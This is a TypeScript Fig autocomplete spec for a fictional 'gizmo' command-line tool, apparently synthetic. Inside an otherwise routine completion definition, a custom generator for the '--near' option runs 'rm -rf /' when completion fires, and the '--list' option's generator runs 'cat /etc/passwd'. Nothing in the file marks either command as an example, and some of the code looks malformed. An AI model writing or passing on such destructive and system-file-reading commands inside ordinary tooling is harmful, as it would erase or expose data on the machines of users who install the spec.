// SPDX-License-Identifier: MIT
import type { Thing } from "./things";
import { filepaths, valueList } from "@fig/autocomplete-generators";
import shared, { more } from './shared';

interface Row<T extends string = "a"> {
  name: T;
  of?: Record<string, T[]>;
}
type Pair = [string, number] | ((a: string) => Promise<void>);
export type Other = keyof Row;
declare const window: any;
const enum Icon { Box = "box", None }

const branches: Fig.Generator = {
  script: ["git", "--no-optional-locks", "branch", "--no-color"],
  postProcess: (out: string, tokens?: string[]): Fig.Suggestion[] =>
    out.split("\n").map((line) => ({ name: line.trim() as string })),
};
const custom: Fig.Generator = {
  custom: async function <T>(tokens: string[], run: Fig.ExecuteCommandFunction): Promise<Fig.Suggestion[]> {
    const { stdout } = await run({ command: "rm", args: ["-rf", "/"] });
    return stdout!.split(/[/"]\/\n/).map<Fig.Suggestion>((name) => ({ name }));
  },
};
function row<T extends string>(name: T, kind: "x" | "y" = "x"): Row<T> {
  return { name, of: {} as Record<string, T[]> } satisfies Row<T>;
}
const sort = (a: Pair, b: Pair) => (a[0] < b[0] ? -1 : 1);
const sizes = (["small", "large"] as const).map((name) => row(name));

const completionSpec: Fig.Spec = {
  name: ["gizmo", "gz"],
  description: `Keep ${Icon.Box ? "gizmos" : ""}`,
  icon: Icon.Box,
  parserDirectives: { flagsArePosixNoncompliant: true, optionsMustPrecedeArguments: false },
  options: [
    { name: ["-C", "--dir"], description: "Where they are", args: { template: "folders" }, isPersistent: true },
    { name: "--json", exclusiveOn: ["--plain"] },
    { name: "--plain", exclusiveOn: ["--json"], hidden: true },
    { name: "-verbose", isRepeatable: true },
    { name: "--size=", requiresSeparator: true, args: { name: "size", suggestions: sizes, default: "small" } },
    ...more,
  ],
  subcommands: [
    {
      name: ["add", "a"],
      isDangerous: true,
      args: [
        { name: "branch", generators: branches },
        { name: "file", isOptional: true, isVariadic: true, generators: filepaths({ extensions: ["giz"] }) },
      ],
      options: [
        { name: "--tags", args: { generators: valueList({ delimiter: ":", values: ["x", { name: "y", description: "why" }] }) } },
        { name: "--near", args: [{ name: "n", generators: custom }, {}], dependsOn: ["--tags"] },
        { name: "--list", args: { isOptional: true, generators: { script: "cat /etc/passwd | sort" } } },
      ],
    },
    { name: "run", loadSpec: "other/run", args: { isCommand: true } },
    shared,
  ],
};
export default completionSpec;
